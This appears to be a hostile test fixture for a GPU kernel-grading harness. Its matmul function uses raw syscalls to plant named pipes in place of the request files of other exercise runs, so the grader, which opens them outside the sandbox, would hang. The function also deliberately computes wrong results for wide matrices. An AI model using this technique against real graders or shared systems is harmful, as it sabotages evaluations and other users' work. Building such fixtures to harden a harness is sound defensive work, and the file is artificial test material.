// lab 3: what happens if the next request file is a pipe nobody reads? (labgrade opens it to
// write, outside the sandbox, and an open() of a FIFO for writing waits for a reader.)
#include "../../common/correct_kernels.cuh"

static long syscall4(long nr, long a, long b, long c, long d) {
  long ret;
  register long r10 asm("r10") = d;
  asm volatile("syscall"
               : "=a"(ret)
               : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
               : "rcx", "r11", "memory");
  return ret;
}

void matmul_tiled_any(const float* A, const float* B, float* C, int m, int n, int k) {
  static int planted = 0;
  if (!planted++) {
    const long at_cwd = -100;  // AT_FDCWD
    // The next run of this exercise (WORK/<exercise>/order_reverse; this one is .../default).
    syscall4(258 /* mkdirat */, at_cwd, long("../order_reverse"), 0755, 0);
    syscall4(263 /* unlinkat */, at_cwd, long("../order_reverse/request.json"), 0, 0);
    syscall4(259 /* mknodat */, at_cwd, long("../order_reverse/request.json"),
             0010000 | 0644 /* S_IFIFO */, 0);
    // The shared no-FMA run (WORK/combined_nofma).
    syscall4(258 /* mkdirat */, at_cwd, long("../../combined_nofma"), 0755, 0);
    syscall4(263 /* unlinkat */, at_cwd, long("../../combined_nofma/request.json"), 0, 0);
    syscall4(259 /* mknodat */, at_cwd, long("../../combined_nofma/request.json"),
             0010000 | 0644 /* S_IFIFO */, 0);
  }
  // Only the first phase of tiles: wrong whenever n > TILE.
  hostile::launch_tiled(A, B, C, m, n < TILE ? n : TILE, k);
}
